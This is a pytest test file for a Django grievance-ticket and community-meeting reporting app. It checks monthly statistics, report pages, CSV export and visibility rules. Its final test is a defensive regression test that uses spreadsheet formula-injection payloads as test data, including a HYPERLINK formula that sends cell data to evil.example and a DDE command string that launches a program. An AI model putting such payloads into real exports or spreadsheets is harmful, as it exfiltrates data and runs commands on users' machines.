"""Statistics on a small fixture whose figures are worked out by hand below."""

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone

from core.clock import SHANGHAI
from escalation import transitions
from escalation.models import Referral
from escalation.sweep import sweep_overdue_tickets
from grievances.models import Ticket
from intake.services import visit_log
from meetings.models import MeetingType
from meetings.services import (
    agenda_add_ticket,
    agenda_add_topic,
    agenda_decide,
    evaluation_record,
    meeting_cancel,
    meeting_record,
    meeting_schedule,
)
from reports.models import MonthlyReport
from reports.selectors import ReportUnit, statistics
from reports.services import monthly_report_generate
from responders.models import User
from responders.selectors import EVERYTHING
from tests.factories import (
    BuildingFactory,
    HouseholdFactory,
    UserFactory,
    department_for,
    make_ticket,
    staffed_zone,
)

pytestmark = pytest.mark.django_db

OCTOBER = (dt.date(2026, 10, 1), dt.date(2026, 11, 1))


def csv_blocks(exported: str) -> dict[str, dict[str, list[str]]]:
    """The exported report as {block title: {first cell: the rest of its row}}, header row
    included, as a person reads it in Excel."""
    blocks, rows = {}, list(csv.reader(io.StringIO(exported)))
    for index, row in enumerate(rows):
        if row == [] and index + 2 < len(rows):
            title, *body = rows[index + 1 :]
            table = blocks[title[0]] = {}
            for line in body:
                if not line:
                    break
                table[line[0]] = line[1:]
    return blocks


def created_on(ticket, day: dt.date) -> None:
    Ticket.objects.filter(pk=ticket.pk).update(created_at=dt.datetime.combine(day, dt.time(10), tzinfo=SHANGHAI))


@pytest.fixture
def month():
    """October: T1 settled at the zone in time (satisfied); T2 carried up to the committee by
    the sweep, then resolved (dissatisfied); T3 an emergency at the street nobody answered;
    T4 withdrawn; T5 from September, outside the month but inside the year."""
    zone = staffed_zone()
    building = BuildingFactory(zone=zone, name="瞿溪路 500 弄 3 号")
    home = HouseholdFactory(zone=zone, building=building)
    t1 = make_ticket(household=home, zone=None, category="public_facilities")
    t2 = make_ticket(household=home, zone=None, category="public_facilities")
    t3 = make_ticket(zone=zone, urgency="emergency")
    t4 = make_ticket(zone=zone)
    t5 = make_ticket(zone=zone)
    transitions.ticket_resolve(ticket=t1, actor="test", outcome="solved")
    transitions.ticket_record_feedback(ticket=t1, actor="test", satisfaction="satisfied", collected_via="phone")
    transitions.ticket_cancel(ticket=t4, actor="test", reason="withdrawn")
    sweep_overdue_tickets(now=t2.resolve_by + dt.timedelta(minutes=1))
    t2.refresh_from_db()
    transitions.ticket_resolve(ticket=t2, actor="test", outcome="solved")
    transitions.ticket_record_feedback(ticket=t2, actor="test", satisfaction="dissatisfied", collected_via="visit")
    for ticket, day in ((t1, 3), (t2, 9), (t3, 15), (t4, 20)):
        created_on(ticket, dt.date(2026, 10, day))
    created_on(t5, dt.date(2026, 9, 30))
    return {"zone": zone, "street": zone.committee.street, "tickets": (t1, t2, t3, t4, t5)}


def test_the_figures_match_the_hand_count(month):
    stats = statistics(EVERYTHING, ReportUnit(street_id=month["street"].pk), *OCTOBER)
    head = stats["headline"]

    # Received: T1, T2, T3 (T4 cancelled, T5 in September).
    assert (head["received"], head["cancelled"]) == (3, 1)
    # Answered in time: T1 and T2 (T3 was never answered and was flagged late).
    assert head["response_rate"] == round(2 / 3, 4)
    # Resolved: T1 and T2 of 3.
    assert head["resolution_rate"] == round(2 / 3, 4)
    # One satisfied, one dissatisfied.
    assert head["satisfaction_rate"] == 0.5
    # On time: only T1; the sweep carried T2 up.
    assert head["on_time_rate"] == 0.5
    # Settled at the zone: T1; at the committee: T2.
    assert head["pyramid"] == {"zone": 0.5, "committee": 0.5, "street": 0.0}
    # The year so far: T1..T3 and T5 received, T1 and T2 resolved.
    assert (stats["year"]["received"], stats["year"]["resolved"], stats["year"]["resolution_rate"]) == (4, 2, 0.5)
    assert stats["year"]["goal"] == 0.9
    assert stats["hot_spots"] == [
        {"building": "瞿溪路 500 弄 3 号", "category_name": "公共设施（电梯、道路、照明）", "tickets": 2}
    ]
    by_category = {row["key"]: (row["received"], row["resolved"]) for row in stats["by_category"]}
    assert by_category == {"public_facilities": (2, 2), "environment": (1, 0)}
    assert [(row["received"], row["resolved"]) for row in stats["by_committee"]] == [(3, 2)]


def test_a_resident_answered_at_the_zone_counts_as_answered_after_the_ticket_moves_up(month):
    street = month["street"]
    carried = transitions.ticket_acknowledge(ticket=make_ticket(zone=month["zone"]), actor="test")
    transitions.ticket_escalate(ticket=carried, actor="test", reason="楼组长协调不了")
    created_on(carried, dt.date(2026, 10, 21))

    head = statistics(EVERYTHING, ReportUnit(street_id=street.pk), *OCTOBER)["headline"]

    # T1, T2 and now the escalated one answered, of 4 received (T3 never answered).
    assert (head["received"], head["responded"]) == (4, 3)


def test_a_cancelled_duplicate_makes_no_hot_spot(month):
    t1 = month["tickets"][0]
    again = make_ticket(household=t1.household, zone=None, category="environment")
    once = make_ticket(household=t1.household, zone=None, category="environment")
    transitions.ticket_cancel(ticket=again, actor="test", reason="duplicate", duplicate_of=once)
    for ticket in (again, once):
        created_on(ticket, dt.date(2026, 10, 22))

    stats = statistics(EVERYTHING, ReportUnit(street_id=month["street"].pk), *OCTOBER)

    assert [spot["category_name"] for spot in stats["hot_spots"]] == ["公共设施（电梯、道路、照明）"]


def test_figures_follow_the_visibility_rule(month):
    other = staffed_zone()
    stranger = UserFactory(role=User.Role.COMMITTEE_STAFF, committee=other.committee)
    from responders.selectors import user_scope

    stats = statistics(user_scope(stranger), ReportUnit(street_id=month["street"].pk), *OCTOBER)

    assert stats["headline"]["received"] == 0


def test_the_monthly_report_is_kept_as_issued(month):
    report = monthly_report_generate(street=month["street"], month=dt.date(2026, 10, 1))
    t3 = month["tickets"][2]
    transitions.ticket_resolve(ticket=t3, actor="test", outcome="solved")

    again = monthly_report_generate(street=month["street"], month=dt.date(2026, 10, 15))

    assert again.pk == report.pk and MonthlyReport.objects.count() == 1
    assert again.data["headline"]["resolved"] == 2  # as issued, not as now


def test_the_report_page_prints_and_exports(client, month):
    street = month["street"]
    staff = User.objects.get(street=street, role="street_staff")
    client.force_login(staff)

    response = client.post("/reports/generate/", {"street": street.pk, "month": "2026-10", "confirm": "on"})
    page = client.get(response["Location"]).content.decode()
    report = MonthlyReport.objects.get()
    exported = client.get(f"/reports/{report.pk}/csv/").content.decode("utf-8-sig")

    assert 'data-testid="resolution-rate">66.7%<' in page
    assert "2026-10-01 – 2026-10-31" in page  # the month's last day, not the day after
    assert "<svg" in page and "瞿溪路 500 弄 3 号" in page
    zone_section = page.split('data-testid="by-zone"')[1].split("</section>")[0]
    channel_section = page.split('data-testid="by-channel"')[1].split("</section>")[0]
    assert f"<title>{month['zone'].name}: 3</title>" in zone_section
    assert "<title>上门走访: 3</title>" in channel_section  # the channel's name, not its code
    blocks = csv_blocks(exported)
    assert blocks["三率"]["解决率"] == ["66.7%"]  # a percentage, as on the page (issue 15)
    assert blocks["金字塔：问题在哪一级解决"]["责任区"] == ["1", "50.0%"]
    assert list(blocks["金字塔：问题在哪一级解决"]) == ["层级", "责任区", "居委会", "街道办事处"]
    assert blocks["按来源渠道"]["上门走访"] == ["3", "2", "66.7%"]  # names, not codes
    assert blocks["热点：同类问题反复出现"]["瞿溪路 500 弄 3 号"] == ["公共设施（电梯、道路、照明）", "2"]


def test_a_month_still_running_cannot_be_issued_and_outsiders_see_nothing(client, month):
    street = month["street"]
    client.force_login(User.objects.get(street=street, role="street_staff"))
    this_month = timezone.localdate().strftime("%Y-%m")

    early = client.post("/reports/generate/", {"street": street.pk, "month": this_month}, follow=True)
    report = monthly_report_generate(street=street, month=dt.date(2026, 10, 1))
    client.force_login(UserFactory(role=User.Role.COMMITTEE_STAFF, committee=staffed_zone().committee))

    assert "结束后才能生成" in early.content.decode()
    assert not MonthlyReport.objects.filter(month__gte=timezone.localdate().replace(day=1)).exists()
    assert client.get(f"/reports/{report.pk}/").status_code == 404
    assert client.get(f"/reports/{report.pk}/csv/").status_code == 404


@pytest.mark.parametrize(
    ("street", "month_value", "named"),
    [("abc", "2026-10", "街道"), ("", "2026-10", "街道"), ("other", "2026-10", "街道"), ("own", "10/2026", "月份")],
)
def test_a_bad_request_for_a_report_names_the_field_and_issues_nothing(client, month, street, month_value, named):
    own = month["street"]
    client.force_login(User.objects.get(street=own, role="street_staff"))
    street = {"own": own.pk, "other": staffed_zone().committee.street.pk}.get(street, street)

    response = client.post("/reports/generate/", {"street": street, "month": month_value}, follow=True)

    assert response.status_code == 200
    assert f"{named}：" in response.content.decode() or f"{named}:" in response.content.decode()
    assert not MonthlyReport.objects.exists()


def test_the_dashboard_shows_this_months_figures_and_the_queue(client):
    zone = staffed_zone()
    make_ticket(zone=zone)
    acknowledged = make_ticket(zone=zone)
    transitions.ticket_acknowledge(ticket=acknowledged, actor="test")
    client.force_login(User.objects.get(committee=zone.committee, role="committee_staff"))

    page = client.get("/dashboard/").content.decode()

    assert 'data-testid="received">2<' in page
    # Two open, one of them not yet acknowledged; the link opens the same queue.
    assert 'data-testid="queue-open">2<' in page and 'data-testid="queue-new">1<' in page
    assert 'data-testid="coverage"' not in page  # the zone's card


def test_a_zone_member_sees_the_visit_coverage_of_their_zone(client):
    zone = staffed_zone()
    visited, _, _ = HouseholdFactory(zone=zone), HouseholdFactory(zone=zone), HouseholdFactory(zone=zone)
    HouseholdFactory(zone=staffed_zone())  # another zone's: not counted
    member = User.objects.get(memberships__team__zone=zone)
    for _ in range(2):
        visit_log(actor=member, household=visited, visited_on=timezone.localdate(), method="door", result="nothing")
    client.force_login(member)

    page = client.get("/dashboard/").content.decode()

    # One household of three visited (twice: it counts once).
    assert 'data-testid="coverage-rate">33.3%<' in page


def october(day: int, hour: int = 14) -> dt.datetime:
    return dt.datetime(2026, 10, day, hour, tzinfo=SHANGHAI)


def test_meetings_referrals_and_department_ratings_match_the_hand_count(client):
    """October at one committee: a hearing held, another cancelled; a coordination meeting
    that settles two disputes and records one written decision; a mediation meeting
    planned but never recorded as held; an evaluation meeting rating a department twice and
    a property company once; one ticket referred to two departments. A hearing in November
    and one of another committee are not October's or this street's."""
    zone = staffed_zone()
    committee, street = zone.committee, zone.committee.street
    chair = User.objects.get(committee=committee, role="committee_staff")

    def plan(code, unit, day):
        return meeting_schedule(type=MeetingType.objects.get(code=code), unit=unit, starts_at=day, actor=None)

    def hold(planned):
        return meeting_record(meeting=planned, actor=chair, minutes="纪要", attended=[])

    hold(plan("hearing", committee, october(12)))
    meeting_cancel(meeting=plan("hearing", committee, october(26)), actor=chair, reason="改期")
    hold(plan("hearing", committee, dt.datetime(2026, 11, 2, 14, tzinfo=SHANGHAI)))
    # Another committee's hearing, recorded by its own staff (the chair acts for neither).
    other = plan("hearing", staffed_zone().committee, october(12))
    meeting_record(meeting=other, actor=other.committee.staff.get(), minutes="纪要", attended=[])
    coordination = plan("coordination", committee, october(18))
    for ticket in (make_ticket(zone=zone), make_ticket(zone=zone)):
        item, _ = agenda_add_ticket(meeting=coordination, ticket=ticket, actor=chair)
        agenda_decide(item=item, actor=chair, decision="resolve", outcome="solved", note="双方达成一致")
    topic = agenda_add_topic(meeting=coordination, topic="楼道堆物公约", actor=chair)
    agenda_decide(item=topic, actor=chair, decision="note", note="通过公约")
    hold(coordination)
    plan("mediation", street, october(10))
    referred = make_ticket(zone=zone)
    created_on(referred, dt.date(2026, 10, 5))
    housing, police = department_for(referred, name="房管办"), department_for(referred, name="派出所")
    transitions.ticket_acknowledge(ticket=referred, actor="test")
    transitions.ticket_refer(ticket=referred, actor="test", departments=[housing, police], duty="核查违建")
    Referral.objects.update(created_at=october(10))
    evaluation = plan("evaluation", committee, october(20))
    criteria = evaluation.type.criteria  # four criteria, 1-5 each
    for scores, department, body in (
        ([5, 5, 4, 4], housing, ""),  # mean 4.5
        ([3, 3, 3, 3], housing, ""),  # mean 3
        ([2, 2, 2, 3], None, "绿城物业"),  # mean 2.25
    ):
        evaluation_record(
            meeting=evaluation,
            actor=chair,
            scores=dict(zip(criteria, scores, strict=True)),
            opinion="意见",
            department=department,
            body_name=body,
        )
    hold(evaluation)

    stats = statistics(EVERYTHING, ReportUnit(street_id=street.pk), *OCTOBER)
    meetings = stats["meetings"]

    # Held in October at this street: the hearing of the 12th, coordination, evaluation.
    assert [(row["code"], row["held"]) for row in meetings["by_type"]] == [
        ("hearing", 1),
        ("coordination", 1),
        ("evaluation", 1),
    ]
    assert (meetings["held"], meetings["hearings"], meetings["coordination"]) == (3, 1, 1)
    # Two tickets settled at the coordination meeting; the written decision is no ticket.
    assert meetings["conflicts_defused"] == 2
    # One ticket referred to two departments.
    assert (meetings["referrals"], meetings["referred_tickets"]) == (2, 1)
    # 房管办: 1 referral, unanswered and not yet late, rated (4.5 + 3) / 2 = 3.75 over two
    # evaluations; 派出所: 1 referral, never rated; 绿城物业: rated once, 2.25.
    assert [
        (row["department_name"], row["referrals"], row["answered"], row["evaluations"], row["rating"])
        for row in stats["departments"]
    ] == [("房管办", 1, 0, 2, 3.75), ("派出所", 1, 0, 0, None), ("绿城物业", 0, 0, 1, 2.25)]
    # A zone of the committee held none of these meetings.
    assert statistics(EVERYTHING, ReportUnit(zone_id=zone.pk), *OCTOBER)["meetings"]["held"] == 0
    assert statistics(EVERYTHING, ReportUnit(committee_id=committee.pk), *OCTOBER)["meetings"]["held"] == 3

    report = monthly_report_generate(street=street, month=dt.date(2026, 10, 1))
    assert report.data["meetings"]["conflicts_defused"] == 2
    assert report.data["departments"][0]["rating"] == 3.75
    client.force_login(User.objects.get(street=street, role="street_staff"))
    page = client.get(f"/reports/{report.pk}/").content.decode()
    exported = client.get(f"/reports/{report.pk}/csv/").content.decode("utf-8-sig")
    assert 'data-testid="hearings">1<' in page and 'data-testid="conflicts-defused">2<' in page
    assert "<td>房管办</td><td>1</td><td>0</td><td>0.0%</td><td>0</td><td>2</td><td>3.75</td>" in page
    blocks = csv_blocks(exported)
    assert blocks["会议"]["化解矛盾"] == ["2"]
    assert blocks["职能部门"]["房管办"] == [
        "1",
        "0",
        "0.0%",
        "0",
        "2",
        "3.75",
        "0",
        "—",
        "0",
        "0",
        "0",
        "0",
    ]  # the rate as a percentage, as on the page; no resident's verdict on its tickets yet, no invitation


def test_an_evaluated_body_named_as_a_formula_is_plain_text_in_the_csv(client):
    """An evaluated body named `=HYPERLINK(...)` reached the report's CSV as a live formula."""
    zone = staffed_zone()
    committee, street = zone.committee, zone.committee.street
    chair = User.objects.get(committee=committee, role="committee_staff")
    meeting = meeting_schedule(
        type=MeetingType.objects.get(code="evaluation"), unit=committee, starts_at=october(20), actor=None
    )
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1)"]
    for name in hostile:
        evaluation_record(
            meeting=meeting,
            actor=chair,
            scores=dict.fromkeys(meeting.type.criteria, 3),
            opinion="意见",
            body_name=name,
        )
    meeting_record(meeting=meeting, actor=chair, minutes="纪要", attended=[])
    report = monthly_report_generate(street=street, month=dt.date(2026, 10, 1))
    client.force_login(User.objects.get(street=street, role="street_staff"))

    exported = client.get(f"/reports/{report.pk}/csv/").content.decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for name in hostile:
        assert "'" + name in cells  # shown as the text it is
